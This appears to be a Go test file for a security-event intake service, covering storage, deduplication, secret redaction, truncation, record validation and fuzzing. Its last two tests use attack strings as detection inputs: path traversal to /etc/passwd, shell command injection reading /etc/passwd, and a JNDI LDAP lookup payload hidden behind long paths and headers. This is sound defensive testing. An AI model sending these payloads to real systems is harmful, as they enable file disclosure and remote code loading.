package ingest

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"go.cordon.dev/cordon/internal/event"
)

func login(n int) event.SecurityRecord {
	return event.SecurityRecord{Kind: event.RecordAuthFailed, Time: time.Date(2026, 3, 14, 12, 0, n, 0, time.UTC), SourceIP: "203.0.113.9", User: fmt.Sprint("user", n)}
}

func logins(n int) (out []event.SecurityRecord) {
	for k := range n {
		out = append(out, login(k))
	}
	return out
}

// stored are the records in the log, in order.
func stored(t *testing.T, l *log) (out []event.SecurityRecord) {
	t.Helper()
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, e := range l.events {
		var p event.RecordsReceived
		if err := e.Decode(&p); err != nil {
			t.Fatal(err)
		}
		out = append(out, p.Records...)
	}
	return out
}

func takeRecords(t *testing.T, i *Intake, key string, records []event.SecurityRecord) {
	t.Helper()
	if spooled, err := i.TakeRecords(t.Context(), key, records); err != nil || spooled {
		t.Fatal(spooled, err)
	}
}

func TestRecordsAreStoredAsTheyCome(t *testing.T) {
	l := &log{}
	i := intake(t, l, t.TempDir())
	defer i.Close()
	takeRecords(t, i, "", logins(3))
	if diff := cmp.Diff(logins(3), stored(t, l)); diff != "" {
		t.Errorf("-sent +stored:\n%s", diff)
	}
	if e := l.events[0]; len(l.events) != 1 || e.Topic != event.TopicRecordsReceived || e.Severity != event.Info || e.Source != "ingest" || e.Validate() != nil {
		t.Errorf("%+v", l.events)
	}
}

// A replayed batch is known by its key, or by the ids of its records; without
// either it is new.
func TestABatchOfRecordsIsTakenOnce(t *testing.T) {
	named := logins(2)
	named[0].ID, named[1].ID = "a", "b"
	for name, c := range map[string]struct {
		key     string
		records []event.SecurityRecord
		want    int
	}{
		"by its key": {"ada 1", logins(2), 2}, "by the ids": {"", named, 2}, "by nothing": {"", logins(2), 6}, "with one id": {"", append(logins(1), named[0]), 6},
	} {
		l := &log{}
		i := intake(t, l, t.TempDir())
		for range 3 {
			takeRecords(t, i, c.key, c.records)
		}
		if got := len(stored(t, l)); got != c.want {
			t.Errorf("%s: %d records", name, got)
		}
		i.Close()
	}
}

// A key of a batch of events stands for none of records.
func TestKeysOfTwoBatchesDiffer(t *testing.T) {
	l := &log{}
	i := intake(t, l, t.TempDir())
	defer i.Close()
	takeRecords(t, i, "ada 1", logins(2))
	takeRecords(t, i, "ada 2", logins(2))
	takeRecords(t, i, "bob 1", logins(2))
	if got := len(stored(t, l)); got != 6 {
		t.Errorf("%d records", got)
	}
}

// While the store is away records wait on disk, as redacted as they are stored.
func TestRecordsWaitForTheStore(t *testing.T) {
	l, dir := &log{down: true}, t.TempDir()
	i := intake(t, l, dir)
	records := logins(2)
	records[0].User, records[1].Attributes = "x "+secret(), map[string]string{"path": "/" + secret()}
	if spooled, err := i.TakeRecords(t.Context(), "", records); err != nil || !spooled {
		t.Fatal(spooled, err)
	}
	names, _ := filepath.Glob(filepath.Join(dir, "*"))
	for _, name := range names {
		if b, err := os.ReadFile(name); err != nil || strings.Contains(string(b), secret()) {
			t.Errorf("%s holds the secret, or %v", name, err)
		}
	}
	l.set(false)
	stop := run(t, i)
	defer stop()
	await(t, "the records", func() bool { return len(stored(t, l)) == 2 })
	if got := stored(t, l); got[0].User != "x TOK****" || got[1].Attributes["path"] != "/TOK****" {
		t.Errorf("%+v", got)
	}
}

func TestTextsAreCutNotRefused(t *testing.T) {
	l := &log{}
	i := intake(t, l, t.TempDir())
	defer i.Close()
	r := login(0)
	r.User = strings.Repeat("é", 1<<19) // a megabyte
	r.Attributes = map[string]string{"path": strings.Repeat("x", mostLooked-5) + secret(), "nul": "\x00\xff\n"}
	r.SourceIP, r.Time = "[::ffff:203.0.113.9]:22", time.Time{}
	takeRecords(t, i, "", []event.SecurityRecord{r})
	got := stored(t, l)[0]
	if len(got.User) != mostUser || len(got.Attributes["path"]) != mostValue || got.Attributes["nul"] != "\x00\uFFFD\n" || got.SourceIP != "203.0.113.9" || !got.Time.IsZero() {
		t.Errorf("%+v", got)
	}
}

// Batches that are full of what is large are stored in several events, none of them
// too large for a bus.
func TestLargeBatchesAreSeveralEvents(t *testing.T) {
	l := &log{}
	i := intake(t, l, t.TempDir())
	defer i.Close()
	records := logins(MaxRecords)
	for k := range records {
		records[k].Attributes = map[string]string{"path": strings.Repeat("\x01", mostValue)}
	}
	for range 2 {
		takeRecords(t, i, "ada 1", records)
	}
	if got := stored(t, l); len(got) != MaxRecords || got[999].User != "user999" {
		t.Errorf("%d records", len(got))
	}
	for _, e := range l.events {
		if len(e.Data) > 64<<10 {
			t.Errorf("an event of %d bytes", len(e.Data))
		}
	}
}

// Records that are written one by one are what all of them would be written as.
func TestRecordsAreWrittenAsTheirPayload(t *testing.T) {
	records := logins(3)
	records[0].ID, records[1].Attributes = "<a>", map[string]string{"b": "&\u2028\x00", "a": "é"}
	for n := 1; n <= len(records); n++ {
		want, err := json.Marshal(event.RecordsReceived{Records: records[:n]})
		if err != nil {
			t.Fatal(err)
		}
		if got, count, err := encode(records[:n]); err != nil || count != n || string(got) != string(want) {
			t.Errorf("%d records, %v: %s, want %s", count, err, got, want)
		}
	}
}

func TestRecordsThatAreRefused(t *testing.T) {
	many := map[string]string{}
	for k := range MaxAttributes + 1 {
		many[fmt.Sprint(k)] = ""
	}
	for want, spoil := range map[string]func(*event.SecurityRecord){
		"kind":                     func(r *event.SecurityRecord) { r.Kind = "weather " + secret() },
		"id: 129 bytes":            func(r *event.SecurityRecord) { r.ID = strings.Repeat("x", 129) },
		"source_ip \"localhost\"":  func(r *event.SecurityRecord) { r.SourceIP = "localhost" },
		"source_ip \"1.2.3\"":      func(r *event.SecurityRecord) { r.SourceIP = "1.2.3" },
		"attributes: 17":           func(r *event.SecurityRecord) { r.Attributes = many },
		"attributes: a name has 1": func(r *event.SecurityRecord) { r.Attributes = map[string]string{secret(): ""} },
		"and is no secret":         func(r *event.SecurityRecord) { r.Attributes = map[string]string{"": ""} },
	} {
		l := &log{}
		i := intake(t, l, t.TempDir())
		records := logins(3)
		spoil(&records[1])
		_, err := i.TakeRecords(t.Context(), "", records)
		var refused *Refused
		if !errors.As(err, &refused) || refused.Index != 1 || !strings.Contains(refused.Why, want) || strings.Contains(refused.Why, secret()) {
			t.Errorf("%s: %v", want, err)
		}
		if len(stored(t, l)) > 0 {
			t.Errorf("%s: a part of the batch was taken", want)
		}
		i.Close()
	}
	i := intake(t, &log{}, t.TempDir())
	defer i.Close()
	for _, n := range []int{0, MaxRecords + 1} {
		var refused *Refused
		if _, err := i.TakeRecords(t.Context(), "", logins(n)); !errors.As(err, &refused) || refused.Index != -1 {
			t.Errorf("%d records: %v", n, err)
		}
	}
}

// An id that looks like a secret is not kept, and still tells records apart.
func TestIDsThatAreSecretsAreHashed(t *testing.T) {
	r := login(0)
	r.ID = secret()
	a, err := Fit(r, redact)
	b, _ := Fit(r, redact)
	if err != nil || strings.Contains(a.ID, secret()) || a.ID != b.ID || len(a.ID) > MaxRecordID {
		t.Errorf("%q %q, %v", a.ID, b.ID, err)
	}
}

// Whatever a record holds, what is kept of it is bounded, and as it would be kept again.
func FuzzRecord(f *testing.F) {
	f.Add("auth_failed", "a", "203.0.113.9:22", "root", "path", "../x")
	f.Add("http_request", "\xff", "[2001:db8::1%eth0]:1", "\x00", "", "\u202e")
	f.Fuzz(func(t *testing.T, kind, id, address, user, name, value string) {
		r, err := Fit(event.SecurityRecord{Kind: kind, ID: id, SourceIP: address, User: user, Attributes: map[string]string{name: value}}, redact)
		if err != nil {
			return
		}
		again, err := Fit(r, redact)
		if diff := cmp.Diff(r, again); err != nil || diff != "" {
			t.Fatalf("%v:\n%s", err, diff)
		}
		if b, err := json.Marshal(r); err != nil || len(b) > 6*(MaxRecordID+mostUser+MaxName+mostValue)+512 {
			t.Fatalf("%d bytes, %v", len(b), err)
		}
	})
}

// What a request hides behind more than is kept of its path is a record of its own, once.
func TestNothingHidesBehindALongPath(t *testing.T) {
	long := strings.Repeat("A", 5_000)
	for _, tt := range []struct {
		path string
		want []string
	}{
		{"/x?a=" + long + "&f=../../etc/passwd", []string{event.RecordPathTraversal, event.RecordHTTPRequest}},
		{"/x?a=" + long + "&h=%3Bcat%20/etc/passwd", []string{event.RecordCommandInjection, event.RecordHTTPRequest}},
		{"/x?f=../../etc/passwd&a=" + long + "&g=../../y", []string{event.RecordHTTPRequest}},
		{"/x?a=" + long, []string{event.RecordHTTPRequest}},
		{"/x?f=../../etc/passwd", []string{event.RecordHTTPRequest}},
	} {
		l := &log{}
		i := intake(t, l, t.TempDir())
		takeRecords(t, i, "", []event.SecurityRecord{{Kind: event.RecordHTTPRequest, ID: "1", SourceIP: "203.0.113.9", Attributes: map[string]string{"path": tt.path}}})
		var kinds []string
		for _, r := range stored(t, l) {
			kinds = append(kinds, r.Kind)
			if r.SourceIP != "203.0.113.9" || r.ID != "1" || len(r.Attributes["path"]+r.Attributes["input"]) > mostValue {
				t.Errorf("%.20q: stored %+v", tt.path, r)
			}
		}
		if diff := cmp.Diff(tt.want, kinds); diff != "" {
			t.Errorf("%.20q…: -want +stored:\n%s", tt.path, diff)
		}
		i.Close()
	}
}

func TestNothingHidesBehindALongHeader(t *testing.T) {
	long := strings.Repeat("A", 5_000)
	for _, tt := range []struct {
		agent string
		want  []string
	}{
		{long + "${jndi:ldap://192.0.2.1/a}", []string{event.RecordWebAttack, event.RecordHTTPRequest}},
		{long + "; cat /etc/passwd", []string{event.RecordCommandInjection, event.RecordHTTPRequest}},
		{"${jndi:ldap://192.0.2.1/a}" + long, []string{event.RecordHTTPRequest}},
		{long, []string{event.RecordHTTPRequest}},
	} {
		for _, header := range []string{"user_agent", "referer"} {
			l := &log{}
			i := intake(t, l, t.TempDir())
			takeRecords(t, i, "", []event.SecurityRecord{{Kind: event.RecordHTTPRequest, ID: "1", SourceIP: "203.0.113.9", Attributes: map[string]string{"path": "/", header: tt.agent}}})
			var kinds []string
			for _, r := range stored(t, l) {
				kinds = append(kinds, r.Kind)
			}
			if diff := cmp.Diff(tt.want, kinds); diff != "" {
				t.Errorf("%s %.20q…: -want +stored:\n%s", header, tt.agent, diff)
			}
			i.Close()
		}
	}
}
